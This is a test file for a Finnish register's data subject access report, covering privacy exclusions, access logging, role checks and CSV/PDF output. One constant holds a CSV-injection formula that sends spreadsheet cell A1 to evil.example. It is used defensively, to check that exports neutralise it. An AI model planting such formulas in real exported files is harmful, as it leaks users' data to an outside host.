import assert from 'node:assert/strict';
import { beforeEach, test } from 'node:test';
import { eq, sql } from 'drizzle-orm';
import { partnerCustomers, staffUsers } from '../../src/server/db/schema/index.ts';
import { MARKINGS, winAnsiText } from '../../src/server/lib/pdf-pages.ts';
import { neutraliseFormula } from '../../src/server/modules/access-log/subject-report.formats.ts';
import { ROLES } from '../../src/contract/auth/permissions.ts';
import {
  accessLogEntries,
  forEachEngineAppPerTest,
  insertTestPartner,
  json,
  manualClock,
  signInNewUser,
  type TestApp,
} from '../helpers/app.ts';
import { assertMarked, parseCsv, pdfInfo, pdfText } from '../helpers/report-files.ts';

/** One clock for the app and the test; each engine's suite starts it again from 2023. */
const clock = manualClock(new Date('2023-06-01T09:00:00Z'));
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Avaa")';

// Every report is itself an entry of the person's log, and the tests count the entries: each test
// starts from its own copy of the same three years of history.
forEachEngineAppPerTest(
  "the data subject's report: who has processed this person's data",
  ({ ctx, prepare }) => {
    let app: TestApp;
    let personId: string;
    let otherId: string;
    let officerCookie: string;
    const moveTo = (iso: string) => clock.advance(new Date(iso).getTime() - clock.now().getTime());
    /** A signed-in user of the role, named, at the clock's time. */
    const user = async (username: string, role: (typeof ROLES)[number], fullName?: string) => {
      const partnerId =
        role === 'contractor'
          ? await insertTestPartner(app.database, { name: 'Hoivapalvelu Åkerlund Oy' })
          : undefined;
      if (partnerId) {
        await app.database.db.insert(partnerCustomers).values({ partnerId, customerId: personId });
      }
      const cookie = await signInNewUser(
        app.app,
        app.database,
        app.keys,
        { username, role, ...(partnerId ? { partnerId } : {}) },
        clock.now(),
      );
      if (fullName) {
        await app.database.db
          .update(staffUsers)
          .set({ fullName })
          .where(eq(staffUsers.username, username));
      }
      return cookie;
    };
    const report = (query: string, cookie = officerCookie) =>
      app.app.inject({
        url: `/api/access-log/subjects/${personId}/report${query}`,
        headers: { cookie },
      });

    // Entries are made over three years by different users.
    prepare(async (prepared) => {
      app = prepared;
      moveTo('2023-06-01T09:00:00Z');
      // 2023: registered — more than two years before the report, so left out by default.
      const registrar = await user('rekisteroija', 'register_officer', 'Rea Rekisteri');
      const created = await app.app.inject({
        method: 'POST',
        url: '/api/persons',
        headers: json(registrar),
        payload: {
          firstName: 'Väinö',
          lastName: 'Äijälä-Öhman',
          language: 'sv',
          personalIdentityCode: '131052-308T',
          personalIdentityCodePurpose: 'consent',
        },
      });
      assert.equal(created.statusCode, 201, created.body);
      personId = created.json().id;
      const other = await app.app.inject({
        method: 'POST',
        url: '/api/persons',
        headers: json(registrar),
        payload: { firstName: 'Toinen', lastName: 'Äijälä' },
      });
      otherId = other.json().id;

      // 2025: customer service reads, searches (both persons found), changes and reveals.
      moveTo('2025-03-01T08:00:00Z');
      const service = await user('asiakaspalvelu.aino', 'customer_service', 'Aino Asiakas');
      await app.app.inject({ url: `/api/persons/${personId}`, headers: { cookie: service } });
      const search = await app.app.inject({
        url: '/api/search?q=aijala',
        headers: { cookie: service },
      });
      assert.equal(search.json().items.length, 2, 'the search found both persons');
      await app.app.inject({
        method: 'PATCH',
        url: `/api/persons/${personId}`,
        headers: json(service),
        payload: { email: 'salainen.osoite@example.fi' },
      });
      const reveal = await app.app.inject({
        method: 'POST',
        url: `/api/persons/${personId}/reveal-identity-code`,
        headers: json(service),
        payload: { purpose: FORMULA },
      });
      assert.equal(reveal.statusCode, 200, reveal.body);

      // 2026: a contractor of a partner reads the page.
      moveTo('2026-11-20T12:30:00Z');
      const contractor = await user('kumppani.kalle', 'contractor');
      const read = await app.app.inject({
        url: `/api/persons/${personId}`,
        headers: { cookie: contractor },
      });
      assert.equal(read.statusCode, 200, read.body);

      moveTo('2026-11-25T10:00:00Z');
      officerCookie = await user('tietosuoja.tiina', 'register_officer', 'Tiina Tietosuoja');
    });

    beforeEach(() => {
      app = ctx();
    });

    test('by default: the last two years, exactly this person, oldest first, in their language', async () => {
      const response = await report('');
      assert.equal(response.statusCode, 200, response.body);
      const body = response.json();
      assert.equal(body.person.name, 'Väinö Äijälä-Öhman');
      assert.equal(body.language, 'sv', "the person's own language");
      assert.equal(body.from, '2024-11-25');
      assert.equal(body.to, '2026-11-25');
      assert.equal(body.generatedBy.name, 'Tiina Tietosuoja (tietosuoja.tiina)');
      assert.equal(body.generatedBy.role, 'registeransvarig');
      assert.deepEqual(
        body.entries.map((e: { action: string }) => e.action),
        ['read', 'search', 'update', 'reveal', 'read'],
        'the 2023 registration is older than two years',
      );
      const [read, search, update, reveal, contractorRead] = body.entries;
      assert.equal(read.user, 'Aino Asiakas (asiakaspalvelu.aino)');
      assert.equal(read.role, 'kundtjänst');
      assert.equal(read.organisation, 'Kommunen (egen personal)');
      assert.ok(read.data.includes('namn') && read.data.includes('personbeteckning'), read.data);
      assert.equal(read.data.filter((d: string) => d === 'namn').length, 1, 'each phrase once');
      assert.equal(search.actionText, 'Sökning (personen fanns bland sökresultaten)');
      assert.deepEqual(update.data, ['e-post']);
      assert.equal(reveal.purpose, FORMULA);
      assert.equal(contractorRead.user, 'kumppani.kalle');
      assert.equal(contractorRead.role, 'avtalspartner');
      assert.equal(contractorRead.organisation, 'Hoivapalvelu Åkerlund Oy');
      assert.equal(contractorRead.occurredAt, '2026-11-20T12:30:00.000Z');

      const text = response.body;
      assert.ok(!text.includes(otherId), "never another subject's id");
      assert.ok(!text.includes('Toinen'), "never another subject's name");
      assert.ok(!text.includes('salainen.osoite'), 'never the values of a change');
      assert.ok(!text.includes('308T'), 'never the identity code');
      assert.ok(!text.includes('127.0.0.1'), 'never a client address');
      const requestIds = (
        await app.database.rows<{ request_id: string }>(
          sql`select request_id from access_log where request_id is not null`,
        )
      ).map((r) => r.request_id);
      assert.ok(requestIds.length > 0);
      assert.ok(
        requestIds.every((id) => !text.includes(id)),
        'never a request id',
      );
    });

    test('a period given: the older registration is in; the last day is included', async () => {
      const all = (await report('?from=2023-01-01&to=2026-11-20&lang=fi')).json();
      assert.deepEqual(
        all.entries.map((e: { action: string }) => e.action),
        ['create', 'read', 'search', 'update', 'reveal', 'read'],
      );
      assert.equal(all.entries[0].actionText, 'Tietojen tallennus');
      assert.equal(all.entries[0].user, 'Rea Rekisteri (rekisteroija)');
      const upTo = (await report('?from=2023-01-01&to=2026-11-19')).json();
      assert.equal(upTo.entries.length, 5, 'the day after the last is left out');
      const only2025 = (await report('?from=2025-03-01&to=2025-03-01')).json();
      assert.equal(only2025.entries.length, 4);
    });

    test('making the report is logged as a report of this person, with its purpose', async () => {
      assert.equal((await report('')).statusCode, 200);
      const last = (await accessLogEntries(app)).at(-1);
      assert.equal(last?.action, 'report');
      assert.deepEqual(last?.subjectIds, [personId]);
      assert.equal(last?.username, 'tietosuoja.tiina');
      assert.equal(last?.purpose, 'data subject access request');
      const next = (await report('?lang=en')).json();
      const reports = next.entries.filter((e: { action: string }) => e.action === 'report');
      assert.ok(reports.length >= 1);
      assert.equal(reports[0].actionText, 'Printed this record');
      assert.equal(reports[0].purpose, 'data subject access request');
      assert.deepEqual(reports[0].data, ['name', 'access log']);
    });

    test('CSV: UTF-8 with BOM, ";", header in the language, formulas neutralised, an attachment', async () => {
      const response = await report('?format=csv&lang=fi');
      assert.equal(response.statusCode, 200, response.body);
      assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
      assert.equal(
        response.headers['content-disposition'],
        'attachment; filename="kasittelyloki-2026-11-25.csv"',
      );
      assert.equal(response.headers['cache-control'], 'no-store');
      const bytes = response.rawPayload;
      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'byte-order mark');
      const rows = parseCsv(bytes.subarray(3).toString('utf8'));
      assert.deepEqual(rows[0], [
        'Aika',
        'Toiminto',
        'Käsittelijä',
        'Rooli',
        'Organisaatio',
        'Tiedot',
        'Käyttötarkoitus',
      ]);
      assert.ok(rows.length >= 6);
      const [, first] = rows;
      assert.deepEqual(first?.slice(0, 5), [
        '2025-03-01 10:00:00',
        'Tietojen katselu',
        'Aino Asiakas (asiakaspalvelu.aino)',
        'asiakaspalvelu',
        'Kunta (oma henkilöstö)',
      ]);
      const revealRow = rows.find((row) => row[1] === 'Henkilötunnuksen katselu');
      assert.equal(revealRow?.[6], `'${FORMULA}`, 'the formula starts with an apostrophe');
      assert.ok(rows.slice(1).every((row) => row.length === 7));
      assert.ok(!response.body.includes(otherId));
      const swedish = await report('?format=csv');
      assert.match(
        swedish.body,
        /^\uFEFFTid;Åtgärd;Behandlare;Roll;Organisation;Uppgifter;Ändamål\r\n/,
      );
      assert.equal(
        swedish.headers['content-disposition'],
        'attachment; filename="behandlingslogg-2026-11-25.csv"',
      );
    });

    test('PDF: a PDF with the title, the name, the table and page numbers, å ä ö readable', async () => {
      const response = await report('?format=pdf&lang=fi&from=2023-01-01');
      assert.equal(response.statusCode, 200, response.body);
      assert.equal(response.headers['content-type'], 'application/pdf');
      assert.equal(
        response.headers['content-disposition'],
        'attachment; filename="kasittelyloki-2026-11-25.pdf"',
      );
      const pdf = response.rawPayload;
      assert.equal(pdf.subarray(0, 5).toString('latin1'), '%PDF-');
      const text = pdfText(pdf);
      assert.match(text, /Henkilötietojen käsittelyloki/);
      assert.match(text, /Väinö Äijälä-Öhman/);
      assert.match(text, /Tiina Tietosuoja \(tietosuoja\.tiina\), rekisterivastaava/);
      assert.match(text, /Hoivapalvelu Åkerlund Oy/);
      assert.match(text, /Käyttötarkoitus/);
      assert.match(text, /Ajanjakso: \n1\.1\.2023–25\.11\.2026/, 'the period, with an en dash');
      assert.match(text, /Sivu 1\/\d+/);
      assert.ok(!text.includes('Toinen'), "never another subject's name");
      assert.ok(!text.includes('salainen.osoite'));
      const info = pdfInfo(pdf);
      assert.equal(info.Title, 'Henkilötietojen käsittelyloki: Väinö Äijälä-Öhman');
      assert.equal(info.Author, 'Asiakasrekisteri');
      assert.equal(info.CreationDate, 'D:20261125100000Z');
    });

    test('a long report has its header on every page and numbered pages', async () => {
      const cookie = await user('selailija', 'customer_service');
      for (let i = 0; i < 60; i++) {
        await app.app.inject({ url: `/api/persons/${personId}`, headers: { cookie } });
      }
      const pdf = (await report('?format=pdf&lang=fi')).rawPayload;
      const text = pdfText(pdf);
      const pages = Number(/Sivu 1\/(\d+)/.exec(text)?.[1]);
      assert.ok(pages >= 2, `${pages} pages`);
      assert.match(text, new RegExp(`Sivu ${pages}/${pages}`));
      assert.equal(text.match(/^Käsittelijä$/gm)?.length, pages, 'the header on every page');
      assertMarked(pdf, MARKINGS.personalData.fi);
    });

    test('bad periods, formats and languages are refused naming the parameter', async () => {
      const cases: [string, string][] = [
        ['?from=2026-02-30', 'querystring.from'],
        ['?to=25.11.2026', 'querystring.to'],
        ['?from=2026-11-01&to=2026-10-01', 'querystring.to'],
        ['?format=xlsx', 'querystring.format'],
        ['?lang=de', 'querystring.lang'],
        ['?subjectId=x', 'querystring.subjectId'],
      ];
      for (const [query, field] of cases) {
        const response = await report(query);
        assert.equal(response.statusCode, 400, `${query}: ${response.body}`);
        assert.ok(
          response.json().errors.some((e: { field: string }) => e.field === field),
          `${query}: ${response.body}`,
        );
      }
      const unknown = await app.app.inject({
        url: `/api/access-log/subjects/${crypto.randomUUID()}/report`,
        headers: { cookie: officerCookie },
      });
      assert.equal(unknown.statusCode, 404);
    });

    test('only the register officer may make it', async () => {
      for (const role of ROLES.filter((r) => r !== 'register_officer')) {
        const cookie = await app.signIn(role);
        const before = (await accessLogEntries(app)).length;
        const response = await report('?format=csv', cookie);
        assert.equal(response.statusCode, 403, role);
        assert.ok(!response.body.includes('Väinö'), role);
        assert.equal((await accessLogEntries(app)).length, before, `${role}: nothing logged`);
      }
      const anonymous = await app.app.inject({
        url: `/api/access-log/subjects/${personId}/report`,
      });
      assert.equal(anonymous.statusCode, 401);
    });

    test('when the log cannot be written, no report is returned', async () => {
      const { db } = app.database;
      await db.execute(
        sql`alter table access_log add constraint refuse_all check (false) not valid`,
      );
      try {
        const response = await report('?format=csv');
        assert.equal(response.statusCode, 500);
        assert.ok(!response.body.includes('Aino'));
      } finally {
        await db.execute(sql`alter table access_log drop constraint refuse_all`);
      }
    });
  },
  { clock },
);

test('CSV cells that a spreadsheet would run as a formula start with an apostrophe', () => {
  for (const value of ['=1+1', '+358401234567', '-2', '@SUM(A1)', '\tx', '\rx']) {
    assert.equal(neutraliseFormula(value), `'${value}`, JSON.stringify(value));
  }
  for (const value of ['Virtanen', '2026-11-25 12:00:00', 'a=b', '']) {
    assert.equal(neutraliseFormula(value), value);
  }
});

test('PDF text keeps Finnish and Swedish letters and simplifies what the standard font lacks', () => {
  assert.equal(winAnsiText('Åsa Öberg-Mäkelä – “hei” €'), 'Åsa Öberg-Mäkelä – “hei” €');
  assert.equal(winAnsiText('Áŋŋel Čeardda, Łukasz Đorđević'), 'Ánnel Ceardda, Lukasz Dordevic');
  assert.equal(winAnsiText('名前 🙂'), '?? ?');
});
